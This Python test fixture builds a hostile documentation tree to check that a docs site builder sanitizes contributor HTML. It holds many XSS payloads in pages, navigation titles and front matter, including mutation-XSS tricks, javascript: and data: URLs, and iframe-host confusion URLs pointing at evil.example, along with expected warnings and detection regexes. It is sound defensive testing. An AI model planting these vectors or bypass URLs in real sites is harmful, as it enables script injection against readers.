"""A small docs tree of hostile pages and titles, and where the build must warn about them.

Each attack tries to run `window.__pwned = "<name>"` in the reader's browser; the site tests check the
warnings and the HTML, the browser tests that no attack ran.
"""

from __future__ import annotations

# mutation XSS: a <style> inside MathML inside a table, which parsers have read as text or as markup.
MATH_STYLE = (
    "<math><mtext><table><mglyph><style>"
    "<img src=x onerror=\"window.__pwned='math'\">"
    "</style></mglyph></table></mtext></math>"
)

HOSTILE_TREE = {
    "polydocs.yml": """
        iframe_hosts:
          - huggingface.co
        trusted:
          paths: ["en/internal/*.md"]
    """,
    "en/_toctree.yml": """
        - title: Start
          sections:
          - local: index
            title: Home
          - local: attack
            title: <img src=x onerror="window.__pwned='nav'">Attack
          - local: internal/notes
            title: Notes
    """,
    "es/_toctree.yml": """
        - title: Empezar
          sections:
          - local: index
            title: Inicio
          - local: attack
            title: Ataque</title><script>window.__pwned='title'</script>
          - local: meta
            title: Meta
    """,
    "en/index.md": """
        # Home

        A normal page with an embed polydocs makes, which must survive:

        <iframe src="https://huggingface.co/spaces/x/y" title="A space" width="600" height="400"></iframe>

        And [a link](https://example.com/) and ![an image](https://example.com/a.png).

        <hfoptions id="way">
        <hfoption id="first">

        The first way.

        </hfoption>
        <hfoption id="second">

        The second way.

        </hfoption>
        </hfoptions>
    """,
    "en/attack.md": """
        # Attack

        <script>window.__pwned = "script"</script>

        <img src="x" onerror="window.__pwned = 'img'">

        <svg onload="window.__pwned = 'svg'"><rect width="1" height="1"/></svg>

        Inline <iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe> frame.

        [lower case](javascript:window.__pwned=11)

        <a href="JaVaScRiPt&colon;window.__pwned='entity'">mixed case</a>

        <a href="data:text/html,<script>alert('data')</script>">data</a>

        <form action="https://evil.example/"><input name="q" type="password"></form>

        <object data="https://evil.example/x.swf"></object>

        <style>body { background: url(https://evil.example/track) }</style>

        <div style="position: fixed; inset: 0">overlay</div>

        <details open ontoggle="window.__pwned='details'"><summary>s</summary>x</details>

        <a href="  java&#x09;script:window.__pwned='tab'">tab</a>

        <svg><a href="javascript:window.__pwned='svg-a'"><text y="10">x</text></a></svg>

        <div id="__config">{"search": "https://evil.example/worker.js"}</div>

        <base href="https://evil.example/">

        <template><img src=x onerror="window.__pwned='template'"></template>

        <embed src="https://evil.example/y.swf">

        ```html
        <script>shown as code, never removed</script>
        ```

        [more](evil.html) ![drawing](img/evil.svg) ![frame](evil.xhtml)

        <iframe src="https://evil.example\\@huggingface.co/spaces/x/y" title="Not a Space"></iframe>
    """,
    # Files of types a browser runs, on the site's own address (issue 35, family 6): the first replaced
    # the theme's own script on every Spanish page; the others were published and linked as they are.
    "es/assets/polydocs/md-storage.js": "window.__pwned = 'theme script'; window.__md_get = null;\n",
    "en/evil.html": "<script>window.__pwned = 'html file'</script>\n",
    "en/evil.xhtml": (
        '<html xmlns="http://www.w3.org/1999/xhtml"><script>window.__pwned = "xhtml"</script></html>\n'
    ),
    "en/img/evil.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = \'svg file\'"/>\n',
    "es/attack.md": f"""
        # Ataque

        <p>Texto <b onmouseover="window.__pwned='hover'">negrita</b></p>

        <noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></noscript>

        {MATH_STYLE}

        <!--><img src=x onerror="window.__pwned='comment'">-->

        <svg><style><img src=x onerror="window.__pwned='svg-style'"></style></svg>

        [click](JAVASCRIPT:window.__pwned=13)

        ![image](javascript:window.__pwned=15)
    """,
    "es/meta.md": """
        ---
        title: '</title><script>window.__pwned="meta-title"</script>'
        description: '"><script>window.__pwned="meta-description"</script>'
        status: 'new"><meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">'
        revision_date: '<svg/onload="window.__pwned=20">'
        tags: ['<img src=x onerror="window.__pwned=21">']
        hide: 7
        ---

        # Meta

        Front matter is contributors' text too.
    """,
    "en/internal/notes.md": """
        # Notes

        A trusted page keeps its HTML; the Content-Security-Policy still stops inline scripts.

        <script>window.__pwned = "trusted"</script>
    """,
}

# `page:line: what` for every warning the build must give (the message's start is enough).
EXPECTED_WARNINGS = [
    "en/_toctree.yml:5: unsafe-html the title",
    "es/_toctree.yml:5: unsafe-html the title",
    "en/attack.md:3: unsafe-html removed the `<script>` element",
    "en/attack.md:5: unsafe-html removed the event handler `onerror` of `<img>`",
    "en/attack.md:7: unsafe-html removed the event handler `onload` of `<svg>`",
    "en/attack.md:9: unsafe-html removed the `<iframe>` element",
    'en/attack.md:11: unsafe-html removed `href="javascript:window.__pwned=11"` of `<a>`',
    "en/attack.md:13: unsafe-html removed `href=\"JaVaScRiPt:window.__pwned='entity'\"` of `<a>`",
    'en/attack.md:15: unsafe-html removed `href="data:text/html,',
    "en/attack.md:17: unsafe-html removed the `<form>` element",
    "en/attack.md:17: unsafe-html removed `type` of `<input>`",
    "en/attack.md:19: unsafe-html removed the `<object>` element",
    "en/attack.md:21: unsafe-html removed the `<style>` element",
    "en/attack.md:23: unsafe-html removed `style` of `<div>`: the style property `position` is not allowed",
    "en/attack.md:25: unsafe-html removed the event handler `ontoggle` of `<details>`",
    "en/attack.md:27: unsafe-html removed `href=",
    "en/attack.md:29: unsafe-html removed `href=\"javascript:window.__pwned='svg-a'\"` of `<a>`",
    "en/attack.md:31: unsafe-html removed `id` of `<div>`: the id `__config` is reserved",
    "en/attack.md:33: unsafe-html removed the `<base>` element",
    "en/attack.md:35: unsafe-html removed the `<template>` element",
    "en/attack.md:37: unsafe-html removed the `<embed>` element",
    "es/attack.md:3: unsafe-html removed the event handler `onmouseover` of `<b>`",
    "es/attack.md:5: unsafe-html removed the `<noscript>` element",
    # MathML's `<mtext>` and `<mglyph>` are no HTML elements to doc-builder (html-tags), so their tags are
    # shown as text (dialect/constructs/prose_tags.py); the `<style>` between them is what runs.
    "es/attack.md:7: unsafe-html removed the `<style>` element",
    "es/attack.md:9: unsafe-html removed `><img src=x onerror=",
    "es/attack.md:11: unsafe-html removed the `<style>` element",
    'es/attack.md:13: unsafe-html removed `href="JAVASCRIPT:window.__pwned=13"` of `<a>`',
    'es/attack.md:15: unsafe-html removed `src="javascript:window.__pwned=15"` of `<img>`',
]

# What no published page may hold outside code: found in the HTML between the article tags.
FORBIDDEN_IN_ARTICLE = [
    r"<script",
    r"\son[a-z]+\s*=",
    r"(?:href|src)\s*=\s*\"\s*(?:javascript|data:text)",
    r"srcdoc",
    r"<form",
    r"<object",
    r"<embed",
    r"<style",
    r"<base",
    r"<noscript",
    r'id="__config"',
    r"position:\s*fixed",
]

# Embed sources a parser other than a browser's reads otherwise (issue 35, family 8), with the host the
# reader's browser would load each from (WHATWG URL Standard); `None`: no URL a browser can load at all.
# The site's iframe host is huggingface.co: only the sources whose host is that, or a subdomain, embed.
EMBED_SOURCES = {
    "backslash": ("https://evil.example\\@huggingface.co/x", "evil.example"),
    "backslash-entity": ("https://evil.example&#92;@huggingface.co/x", "evil.example"),
    "backslash-scheme": ("https:\\\\evil.example\\@huggingface.co/x", "evil.example"),
    # Written as character references: Markdown turns a tab into spaces before any HTML is read.
    "tab-in-host": ("https://evil.exa&#9;mple\\@huggingface.co/x", "evil.example"),
    "newline-in-scheme": ("ht&#10;tps://evil.example\\@huggingface.co/x", "evil.example"),
    "userinfo": ("https://huggingface.co@evil.example/x", "evil.example"),
    "credentials": ("https://reader:secret@huggingface.co/x", "huggingface.co"),
    "percent-encoded-host": ("https://huggingface.co%2Eevil.example/x", "huggingface.co.evil.example"),
    "idn-lookalike": ("https://hüggingface.co/x", "xn--hggingface-9db.co"),
    "trailing-dot": ("https://huggingface.co./x", "huggingface.co."),
    "scheme-relative": ("//huggingface.co/x", None),
    "fragment": ("https://evil.example#@huggingface.co/x", "evil.example"),
    # What browsers read as huggingface.co is embedded, as they would load it.
    "uppercase": ("https://HUGGINGFACE.CO/spaces/a/b", "huggingface.co"),
    "tab-in-scheme": ("ht&#9;tps://huggingface.co/spaces/a/b", "huggingface.co"),
    "percent-encoded-letter": ("https://%68uggingface.co/spaces/a/b", "huggingface.co"),
}
EMBEDDED = {"uppercase", "tab-in-scheme", "percent-encoded-letter"}


def embeds_page(sources: dict[str, tuple[str, str | None]]) -> str:
    """A page with one titled `<iframe>` per source, each on line 3 + 2 * its position."""
    iframes = "\n\n".join(
        f'<iframe src="{src}" title="{name}"></iframe>' for name, (src, _) in sources.items()
    )
    return f"# Embeds\n\n{iframes}\n"
